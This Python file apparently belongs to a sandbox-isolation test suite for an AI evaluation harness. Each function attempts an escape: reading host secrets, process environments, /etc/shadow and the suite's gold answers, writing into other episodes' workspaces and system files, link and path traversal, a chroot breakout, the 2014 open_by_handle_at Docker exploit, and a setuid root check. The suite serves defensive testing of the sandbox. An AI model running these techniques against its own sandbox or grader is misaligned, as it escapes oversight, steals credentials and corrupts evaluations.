"""Attempts on files: the harness's, the host's, other episodes'. Runs inside; standard library only."""

from __future__ import annotations

import ctypes
import os
import subprocess
from pathlib import Path

from inside import Given, Prevented, attempt, check_result, first_of, libc, number_of, read, syscall

GROUP = "files"


@attempt(GROUP)
def read_host_file(given: Given) -> str:
    return read(given["secret"], given)


@attempt(GROUP)
def read_targets_of_the_suite(given: Given) -> str:
    return read(given["targets"], given)


@attempt(GROUP)
def read_gold_calls(given: Given) -> str:
    return read(given["gold"], given)


@attempt(GROUP)
def read_records_of_the_run(given: Given) -> str:
    return read(given["records"], given)


@attempt(GROUP)
def read_harness_code(given: Given) -> str:
    text = Path(given["harness_code"]).read_text()
    if "GymcpError" not in text:
        raise Prevented("another file")
    return "read errors.py"


@attempt(GROUP)
def read_harness_virtualenv(given: Given) -> str:
    return f"{len(os.listdir(given['virtualenv']))} entries"


@attempt(GROUP)
def read_environment_secrets(given: Given) -> str:
    processes = [name for name in os.listdir("/proc") if name.isdigit()]
    return first_of(processes, lambda name: read(f"/proc/{name}/environ", given))


@attempt(GROUP)
def read_through_the_roots_of_processes(given: Given) -> str:
    roots = ["self", "1", str(os.getppid()), str(given["harness_pid"]), str(given["other_pid"])]
    return first_of(roots, lambda pid: read(f"/proc/{pid}/root{given['secret']}", given))


@attempt(GROUP)
def read_through_working_folder_of_the_harness(given: Given) -> str:
    return read(f"/proc/{given['harness_pid']}/cwd/secret", given)


@attempt(GROUP)
def read_other_episodes_workspace(given: Given) -> str:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    places = [f"/proc/{pid}/{way}/token" for pid in pids for way in ("cwd", "root/workspace")]
    return first_of(places, lambda place: read(place, given))


@attempt(GROUP)
def write_other_episodes_workspace(given: Given) -> str:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]

    def plant(folder: str) -> str:
        read(f"{folder}/token", given)
        with open(f"{folder}/planted", "w") as file:
            file.write("x")
        return f"wrote into {folder}"

    places = [f"/proc/{pid}/{way}" for pid in pids for way in ("cwd", "root/workspace")]
    return first_of(places, plant)


@attempt(GROUP)
def read_seeds_of_other_tasks(given: Given) -> str:
    return read(f"{given['cache']}/seeds/other", given)


@attempt(GROUP)
def change_seeds_of_other_tasks(given: Given) -> str:
    with open(f"{given['cache']}/seeds/other", "r+") as file:
        file.write(file.read(0))
    return "opened a seed for writing"


@attempt(GROUP)
def read_scratch_folders(given: Given) -> str:
    return f"{len(os.listdir(given['scratch']))} entries"


@attempt(GROUP)
def change_host_file(given: Given) -> str:
    os.close(os.open(given["secret"], os.O_WRONLY | os.O_APPEND))
    return "opened it for writing"


@attempt(GROUP, control="root")
def change_system_file(given: Given) -> str:
    def open_it(path: str) -> str:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        return f"opened {path} for writing"

    return first_of(("/etc/passwd", "/etc/hosts", "/usr/bin/env"), open_it)


@attempt(GROUP, control="root")
def read_shadow(given: Given) -> str:
    return f"{len(Path('/etc/shadow').read_bytes())} bytes"


@attempt(GROUP)
def link_out_of_the_workspace(given: Given) -> str:
    link = f"{given['name']}-link"
    os.symlink(given["secret"], link)
    try:
        return read(link, given)
    finally:
        os.unlink(link)


@attempt(GROUP)
def climb_out_of_the_workspace(given: Given) -> str:
    return read("../" * 40 + given["secret"].lstrip("/"), given)


@attempt(GROUP)
def hard_link_into_the_workspace(given: Given) -> str:
    link = f"{given['name']}-hard"
    os.link(given["secret"], link)
    try:
        return read(link, given)
    finally:
        os.unlink(link)


@attempt(GROUP)
def read_shared_memory_files_of_the_host(given: Given) -> str:
    return read(given["shm_file"], given)


@attempt(GROUP, control="root")
def open_by_file_handle(given: Given) -> str:
    """As the exploit of 2014 against Docker did: no path leads there, but a handle and any mount do."""
    kind, handle = given["handle"]
    raw = bytes.fromhex(handle)
    struct_bytes = len(raw).to_bytes(4, "little") + int(kind).to_bytes(4, "little", signed=True) + raw
    buffer = ctypes.create_string_buffer(struct_bytes, len(struct_bytes))

    def through(place: str) -> str:
        mount = os.open(place, os.O_RDONLY)
        fd = syscall("open_by_handle_at", number_of(304, 265), mount, buffer, os.O_RDONLY)
        return read(f"/proc/self/fd/{fd}", given)

    places = ("/", "/tmp", "/workspace", "/srv/program", "/etc", "/usr/bin", given["secret"])
    return first_of(places, through)


@attempt(GROUP, control="root")
def break_out_of_a_chroot(given: Given) -> str:
    folder = f"{given['name']}-jail"
    os.mkdir(folder)
    try:
        check_result(libc.chroot(folder.encode()), "chroot")
        os.chdir("../" * 40)
        check_result(libc.chroot(b"."), "chroot")
        return read(given["secret"], given)
    finally:
        if os.path.isdir(folder):
            os.rmdir(folder)


@attempt(GROUP)
def run_a_set_id_program(given: Given) -> str:
    said = subprocess.run([given["set_id"]], capture_output=True, text=True, check=False).stdout
    if "uid=0(" not in said and "uid=0 " not in said:
        raise Prevented(f"it runs as {said.strip() or 'nothing'}")
    return said.strip()
